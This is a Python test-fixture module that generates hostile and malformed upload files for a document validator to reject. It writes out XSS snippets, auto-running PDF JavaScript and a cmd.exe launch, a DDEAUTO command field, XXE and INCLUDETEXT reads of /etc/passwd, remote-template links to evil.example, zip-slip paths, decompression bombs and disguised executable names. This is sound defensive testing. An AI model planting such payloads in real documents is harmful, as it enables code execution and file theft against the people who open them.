"""Files of people who mean harm, or whose files are broken: a class a line.

Each is refused at any door: its name, its bytes, and words of the sentence that says why.  `packages` are
those that call themselves Word files.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache
from itertools import pairwise

from PIL import Image

from tests.builders.packages import SHEET, WORD, archive, document, entry, excel, links, types, word, zipped
from tests.builders.pdfs import object_stream, pdf, stream

MEGABYTE = 1024 * 1024
File = tuple[str, bytes, str]
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-" + rb"ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
JAVASCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def _picture(how: str, size: tuple[int, int] = (40, 30)) -> bytes:
    kept = io.BytesIO()
    Image.effect_noise(size, 80).convert("RGB").save(kept, how)
    return kept.getvalue()


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">L", len(data)) + name + data + struct.pack(">L", zlib.crc32(name + data))


def _png(width: int, height: int, *chunks: bytes) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0))
    pixels = _chunk(b"IDAT", zlib.compress(bytes(100_000), 9))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + pixels + _chunk(b"IEND", b"")


def _huge_jpeg() -> bytes:
    small = _picture("JPEG")
    place = small.index(b"\xff\xc0") + 5
    return small[:place] + struct.pack(">2H", 60000, 60000) + small[place + 4 :]


def _nested() -> bytes:
    inner = zipped({"bomb.bin": bytes(MEGABYTE)})
    for _level in range(3):
        inner = zipped({f"{number}.zip": inner for number in range(8)}, compression=zipfile.ZIP_STORED)
    return inner


def _with(name: str, data: bytes, **lies: int) -> bytes:
    """A Word file with one entry that no Word writes."""
    return archive([*(entry(*part) for part in word().items()), entry(name, data, **lies)])


def _related(kind: str, target: str, *, outside: bool = False) -> bytes:
    return zipped(word({"word/_rels/document.xml.rels": links((kind, target, outside))}))


def _field(code: str) -> bytes:
    half = len(code) // 2
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (code[:half], code[half:]))
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return zipped(word({"word/document.xml": document(f"<w:p>{begin}{runs}</w:p>")}))


def _defined(definitions: str, encoding: str = "utf-8") -> bytes:
    xml = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE w [{definitions}]><w>&a;</w>'
    return zipped(word({"word/document.xml": xml.encode(encoding)}))


LAUGHS = "".join(f'<!ENTITY {one} "{f"&{before};" * 10}">' for before, one in pairwise("zabcdefghij"))


def pictures() -> dict[str, File]:
    return {
        "a PNG of 900 megapixels": ("洪水.png", _png(30000, 30000), "4000 万像素"),
        "a JPEG of 3600 megapixels": ("洪水.jpg", _huge_jpeg(), "4000 万像素"),
        "a PNG that ends too soon": ("半张.png", _picture("PNG")[:900], "不完整"),
        "a JPEG that ends too soon": ("半张.jpg", _picture("JPEG", (400, 300))[:900], "不完整"),
        "a PNG of nothing but its head": ("头.png", b"\x89PNG\r\n\x1a\n", "不完整"),
        "a PNG with a text that unpacks to 200 MB": (
            "文字.png",
            _png(40, 30, _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200 * MEGABYTE), 9))),
            "不完整",
        ),
        "a GIF that is also a script": ("动图.jpg", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "内容却不是"),
        "a GIF": ("动图.gif", b"GIF89a" + bytes(40), "JPG 或 PNG"),
        "a drawing with a script": (
            "图.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "JPG 或 PNG",
        ),
        "a drawing with a script under another name": (
            "图.png",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "内容却不是",
        ),
        "a page under the name of a picture": (
            "网页.jpg",
            b"<!doctype html><script>alert(1)</script>",
            "内容却不是",
        ),
        "a bitmap under another name": ("位图.png", _picture("BMP"), "内容却不是"),
        "a PNG called JPEG": ("照片.jpg", _picture("PNG"), "内容却是 PNG"),
        "a picture of a telephone that browsers do not know": (
            "照片.heic",
            b"\0\0\0\x18ftypheic" + bytes(40),
            "HEIC",
        ),
    }


def pdfs() -> dict[str, File]:
    return {
        "a PDF that begins as a page": ("页.pdf", b"<html><script>alert(1)</script>" + pdf(), "内容却不是"),
        "a PDF with a page in its head": (
            "页.pdf",
            pdf(head=b"% <html><body><script>alert(1)</script>\n"),
            "混进了网页",
        ),
        "a PDF with a page at its end": ("页.pdf", pdf() + b"<script>alert(1)</script>", "混进了网页"),
        "a PDF with an archive at its end": ("页.pdf", pdf() + zipped({"a.txt": b"a"}), "混进了网页"),
        "a PDF that runs a script": ("脚本.pdf", pdf(b"/OpenAction 4 0 R", JAVASCRIPT), "自动运行"),
        "a PDF that spells its script otherwise": (
            "脚本.pdf",
            pdf(b"/OpenAction<</S/J#61vaScr#69pt/JS(app.alert\\(1\\))>>"),
            "自动运行",
        ),
        "a PDF whose script is packed away": (
            "脚本.pdf",
            pdf(b"", object_stream(b"4 0 " + JAVASCRIPT)),
            "自动运行",
        ),
        "a PDF that packs its script oddly": (
            "脚本.pdf",
            pdf(b"", stream(b"/Type/Obj#53tm/Filter[/ASCIIHexDecode/FlateDecode]", b"78da>")),
            "不完整",
        ),
        "a PDF that starts a program": ("程序.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "自动运行"),
        "a PDF with a password": ("密码.pdf", pdf(trailer=b"/Encrypt<</Filter/Standard/V 4>>"), "密码"),
        "a PDF that ends too soon": ("半份.pdf", pdf()[:-40], "不完整"),
        "a PDF of nothing but its head": ("头.pdf", b"%PDF-1.7\n", "不完整"),
        "a PDF whose objects unpack to 100 MB": (
            "炸.pdf",
            pdf(b"", object_stream(bytes(100 * MEGABYTE))),
            "展开后太大",
        ),
        "a PDF called PNG": ("证.png", pdf(), "内容却是 PDF"),
    }


def packages() -> dict[str, File]:
    return {
        "an archive that unpacks to 200 MB": (
            "炸.docx",
            zipped(word({f"word/media/{n}.xml": bytes(20 * MEGABYTE) for n in range(10)})),
            "展开后有",
        ),
        "an archive that unpacks a thousandfold": (
            "炸.docx",
            _with("word/a.xml", b"<a>" + b" " * 40 * MEGABYTE),
            "压缩得异常厉害",
        ),
        "archives within archives": ("套.docx", _nested(), "只是一个压缩包"),
        "an archive within a Word file": (
            "套.docx",
            _with("word/media/a.png", zipped({"a": b"a"})),
            "嵌着另一个文件",
        ),
        "entries over one another": (
            "叠.docx",
            archive([entry(*part) for part in word().items()], overlap=True),
            "重叠",
        ),
        "an entry larger than it says": (
            "谎.docx",
            _with("word/a.xml", b"<a>" + b"a" * 5000 + b"</a>", size=10),
            "和目录上写的不一样",
        ),
        "an entry smaller than it says": (
            "谎.docx",
            _with("word/a.xml", b"<a/>", size=5000),
            "和目录上写的不一样",
        ),
        "an entry with another checksum": (
            "谎.docx",
            _with("word/a.xml", b"<a/>", crc=1),
            "和目录上写的不一样",
        ),
        "an entry that leaves the archive": (
            "谎.docx",
            _with("word/a.xml", b"<a/>", packed=1 << 30),
            "对不上",
        ),
        "fewer entries than there are": (
            "谎.docx",
            archive([entry(*part) for part in word().items()], count=1),
            "对不上",
        ),
        "more entries than there are": (
            "谎.docx",
            archive([entry(*part) for part in word().items()], count=9),
            "对不上",
        ),
        "an entry in a folder above": ("出.docx", _with("../../evil.xml", b"<a/>"), "文件之外"),
        "an entry with a whole path": ("出.docx", _with("/etc/passwd.xml", b"<a/>"), "文件之外"),
        "an entry with a path of Windows": ("出.docx", _with("..\\..\\evil.xml", b"<a/>"), "文件之外"),
        "an entry on a drive": ("出.docx", _with("C:evil.xml", b"<a/>"), "文件之外"),
        "an entry with a NUL in its name": ("空.docx", _with("word/a.xml\0.png", b"<a/>"), "文件之外"),
        "a symbolic link": ("链.docx", _with("word/a.xml", b"/etc/passwd", mode=0o120777), "指向别处的链接"),
        "an entry with a password": ("密.docx", _with("word/a.xml", b"<a/>", flags=0x801), "加了密码"),
        "an entry packed in a rare way": (
            "怪.docx",
            zipped(word(), compression=zipfile.ZIP_LZMA),
            "少见的压缩方法",
        ),
        "2005 entries": (
            "多.docx",
            zipped(word({f"word/{n}.xml": b"<a/>" for n in range(2001)})),
            "2005 个部件",
        ),
        "two entries of one name": ("双.docx", _with("word/document.xml", document()), "同名的部件"),
        "two entries whose names differ in case": (
            "双.docx",
            _with("word/DOCUMENT.xml", document()),
            "同名的部件",
        ),
        "something before the archive": ("前.docx", b"MZ" + bytes(100) + zipped(word()), "内容却不是"),
        "something after the archive": ("后.docx", zipped(word()) + b"<script>alert(1)</script>", "对不上"),
        "half an archive": ("半.docx", zipped(word())[:600], "对不上"),
        "an archive that is no Word file": ("压.docx", zipped({"a.xml": b"<a/>"}), "只是一个压缩包"),
        "a Word file that is an Excel file": ("表.docx", zipped(excel()), "内容却不是"),
        "a macro": ("宏.docx", zipped(word({"word/vbaProject.bin": OLE})), "里有宏"),
        "a macro under another name": (
            "宏.docx",
            zipped(word({"word/media/image1.png": OLE})),
            "嵌着另一个文件",
        ),
        "a type with macros": (
            "宏.docx",
            zipped(
                word(
                    {
                        "[Content_Types].xml": types(
                            word_document="application/vnd.ms-word.document.macroEnabled.main+xml"
                        )
                    }
                )
            ),
            "里有宏",
        ),
        "a relationship to a macro": (
            "宏.docx",
            _related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.xml"),
            "里有宏",
        ),
        "an embedded object": (
            "嵌.docx",
            zipped(word({"word/embeddings/oleObject1.bin": OLE})),
            "嵌着另一个文件",
        ),
        "a relationship to an object": ("嵌.docx", _related("oleObject", "media/a.png"), "嵌着另一个文件"),
        "a control": ("嵌.docx", _related("control", "activeX/activeX1.xml"), "嵌着另一个文件"),
        "a program": ("嵌.docx", zipped(word({"word/media/a.png": b"MZ" + bytes(200)})), "嵌着另一个文件"),
        "an unknown part": ("嵌.docx", zipped(word({"word/a.exe": b"a"})), "不认识的部件"),
        "a template from elsewhere": (
            "模板.docx",
            _related("attachedTemplate", "http://evil.example/a.dotm", outside=True),
            "别处的模板",
        ),
        "a template from a drive": (
            "模板.docx",
            _related("attachedTemplate", "file:///C:/Users/a/Templates/a.dotx", outside=True),
            "别处的模板",
        ),
        "a picture from elsewhere": (
            "图.docx",
            _related("image", "http://evil.example/a.png", outside=True),
            "到别处去取",
        ),
        "a link to a script": (
            "链接.docx",
            _related("hyperlink", "javascript:alert(1)", outside=True),
            "到别处去取",
        ),
        "a page embedded": ("网页.docx", _related("aFChunk", "a.xml"), "到别处去取"),
        "a relationship out of the archive": (
            "出.docx",
            _related("image", "../../../etc/passwd"),
            "文件之外",
        ),
        "a relationship to a file of the machine": (
            "出.docx",
            _related("image", "file:///etc/passwd"),
            "文件之外",
        ),
        "a field that starts a program": (
            "域.docx",
            _field(' DDEAUTO c:\\windows\\cmd.exe "/k calc" '),
            "到别处去取",
        ),
        "a field that reads a file": ("域.docx", _field(' INCLUDETEXT "/etc/passwd" '), "到别处去取"),
        "entities that grow": ("笑.docx", _defined(f'<!ENTITY z "哈哈">{LAUGHS}'), "DOCTYPE"),
        "an entity from a file": ("读.docx", _defined('<!ENTITY a SYSTEM "file:///etc/passwd">'), "DOCTYPE"),
        "an entity in another encoding": (
            "读.docx",
            _defined('<!ENTITY a SYSTEM "http://evil.example/">', "utf-16"),
            "DOCTYPE",
        ),
        "XML that does not end": (
            "坏.docx",
            zipped(word({"word/document.xml": document()[:-20]})),
            "读不出来",
        ),
        "an old Word file under a new name": ("旧.docx", OLE, "旧版或加了密码"),
        "a page under the name of a Word file": ("网页.docx", b"<html><body>x</body></html>", "内容却不是"),
    }


def sheets() -> dict[str, File]:
    return {
        "a macro in a table": ("宏.xlsx", zipped(excel({"xl/vbaProject.bin": OLE})), "里有宏"),
        "a macro sheet": (
            "宏.xlsx",
            zipped(
                excel(
                    {
                        "[Content_Types].xml": types(
                            xl_workbook=f"{SHEET}.sheet.main+xml",
                            xl_macrosheets_a="application/vnd.ms-excel.macrosheet+xml",
                        )
                    }
                )
            ),
            "里有宏",
        ),
        "a table that fetches from elsewhere": (
            "外.xlsx",
            zipped(
                excel({"xl/_rels/workbook.xml.rels": links(("externalLink", "externalLinks/a.xml", False))})
            ),
            "到别处去取",
        ),
        "a table that is a Word file": (
            "文.xlsx",
            zipped(word({"[Content_Types].xml": types(word_document=f"{WORD}.document.main+xml")})),
            "内容却不是",
        ),
    }


def names() -> dict[str, File]:
    return {
        "nothing at all": ("空.pdf", b"", "是空的"),
        "more than ten megabytes": ("大.pdf", pdf() + bytes(10 * MEGABYTE), "10 MB 的上限"),
        "the name of a program": ("setup.exe", b"MZ" + bytes(100), "不收 .exe"),
        "no ending": ("营业执照", pdf(), "没有扩展名"),
        "an archive": ("资料.zip", zipped({"a.txt": b"a"}), "压缩包不收"),
        "a program that reads as a PDF": ("营业执照\u202efdp.exe", pdf(), "不收 .exe"),
        "a program after a NUL": ("营业执照.pdf\0.exe", pdf(), "不收 .exe"),
        "what virus scanners are tested with": ("测试.pdf", EICAR, "内容却不是"),
        "the same, in a Word file": ("测试.docx", zipped(word({"word/eicar.com": EICAR})), "不认识的部件"),
        "an old Word file": ("报告.doc", OLE, "旧的 .doc"),
    }


@cache
def hostile() -> dict[str, File]:
    """All of them."""
    groups = (pictures(), pdfs(), packages(), sheets(), names())
    found = {what: file for group in groups for what, file in group.items()}
    assert len(found) == sum(map(len, groups))
    return found
